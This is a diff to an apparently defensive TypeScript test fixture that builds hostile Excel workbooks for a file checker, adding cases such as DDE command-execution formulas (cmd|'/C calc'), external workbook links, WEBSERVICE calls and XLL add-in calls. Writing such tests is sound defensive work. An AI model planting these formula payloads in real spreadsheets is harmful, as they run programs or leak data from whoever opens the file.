@@ -190,13 +190,27 @@ const contents: readonly Hostile[] = [
     'a file inside the file': () => beside({ name: 'xl/embeddings/oleObject1.bin', data: 'x' }),
     'a link to another workbook': () => related('externalLinkPath'),
     'a picture from the network': () => related('image', 'http://example.org/track.png'),
+    'a name for another program': () =>
+      workbookWith(
+        replaced(
+          'xl/workbook.xml',
+          '</sheets>',
+          `</sheets><definedNames><definedName name="a">cmd|'/C calc'!A0</definedName></definedNames>`,
+        ),
+      ),
     'a template from a share': () => related('attachedTemplate', 'file://server/share/a.dotm'),
   }),
   ...hostile('file-has-formulas', {
-    'a sum': () => withCell('<f>SUM(A1:A2)</f><v>3</v>'),
+    'a cell of another workbook': () => withCell('<f>SUM(A1,[1]Sheet1!A2)</f><v>3</v>'),
+    'a cell of a workbook by its path': () => withCell("<f>'C:\\so lieu\\[a.xlsx]Tháng 7'!$A$1</f><v>3</v>"),
+    'a name of another workbook': () => withCell('<f>[1]!So_lieu</f><v>3</v>'),
+    'a workbook called by its words': () => withCell('<f>INDIRECT("[a.xlsx]S!A1")</f><v>3</v>'),
+    'an address that is asked': () => withCell('<f>_xlfn.WEBSERVICE("http://example.org")</f><v>3</v>'),
+    'an add-in': () => withCell('<f>_xll.Anything(A1)</f><v>3</v>'),
     'a link that sends data': () => withCell('<f>HYPERLINK("http://example.org/"&amp;A1)</f><v>0</v>'),
     'a call of another program': () => withCell("<f>cmd|' /C calc'!A0</f>"),
-    'a formula shared by cells': () => withCell('<f t="shared" ref="E2:E9" si="0">A2</f>'),
+    'a call of another program, shared by cells': () =>
+      withCell(`<f t="shared" ref="E2:E9" si="0">cmd|'/C calc'!A2</f><v>1</v>`),
   }),
 ]
 
@@ -353,6 +367,14 @@ export const hostileFiles: readonly Hostile[] = [
 
 /** The same workbook, with nothing wrong about it. */
 export const soundFile = (): Uint8Array => workbookWith({})
+
+/** The same with a column more at its end. */
+export const withLastColumn = (heading: string, cell: string): Uint8Array =>
+  workbookWith({
+    [sheet]: (good[sheet] ?? '')
+      .replace('</row><row r="2"', `${heading}</row><row r="2"`)
+      .replace('</row></sheetData>', `${cell}</row></sheetData>`),
+  })
 
 /** Its only list on a sheet that nobody sees. */
 export const hiddenFile = (): Uint8Array =>
